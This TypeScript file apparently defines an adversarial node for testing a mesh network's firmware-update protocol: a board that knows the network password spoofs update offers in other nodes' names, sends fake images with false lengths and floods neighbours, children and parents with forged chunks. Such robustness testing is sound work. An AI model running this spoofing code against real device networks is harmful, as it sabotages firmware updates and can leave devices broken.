/** A board in the mesh that wants to break the update of the others. It knows the network's password, but not its keys. */
import { mesh, node } from "espalier";

let image = "";
let origin = 0;
let turn = 0;

mesh.onPackage(710, function (pkg) {
  if (pkg.from === mesh.getNodeId()) return;
  image = pkg.id as string;
  origin = pkg.from;
});

function tagOf(id: string): string {
  let tag = "";
  for (let i = 0; i < 8; i += 2) tag += String.fromCharCode(parseInt(id.substr(i, 2), 16));
  return tag;
}

node.onReady(function () {
  node.every(2000, function () {
    const own = "deadbeef0000000" + (turn++ % 10);
    const target = { hardware: "ESP32", role: "node", version: "9.9.9", transport: "broadcast", pace: 5 };
    // An image of its own, in its own name and in that of the laptop.
    for (const from of [mesh.getNodeId(), origin || 1]) {
      mesh.sendPackage({ type: 710, routing: 2, dest: 0, from: from, id: own, blob: 9000, ...target });
    }
    if (!image) return;
    for (const type of [713, 714, 717]) mesh.sendPackage({ type: type, routing: 2, dest: 0, from: origin, id: image });
    // An offer of the true image with another length, and a peer that has it.
    mesh.sendPackage({ type: 710, routing: 2, dest: 0, from: origin, id: image, blob: 3, ...target });
    mesh.sendPackage({ type: 719, routing: 2, dest: 0, from: mesh.getNodeId(), id: image, blob: 9000, ...target });
    for (const one of mesh.neighbours()) {
      mesh.sendPackage({ type: 712, routing: 0, dest: one.id, id: own, p: 1, m: "////", o: 9 });
      mesh.sendPackage({ type: 712, routing: 0, dest: one.id, id: image, p: 1, m: "////////////", o: 200 });
    }
    const junk = "forged".repeat(170).substr(0, 1016);
    const index = String.fromCharCode(turn % 40, 0);
    node.airwave.sendToChildren("C\x01" + tagOf(image) + index + junk);
    node.airwave.sendToChildren("X\x01" + tagOf(image) + "\0\0\x01" + index + junk);
    node.airwave.sendToParent("C\x01" + tagOf(image) + index + junk);
    node.airwave.sendToParent("P\x01" + tagOf(image) + "\0\0");
  });
});
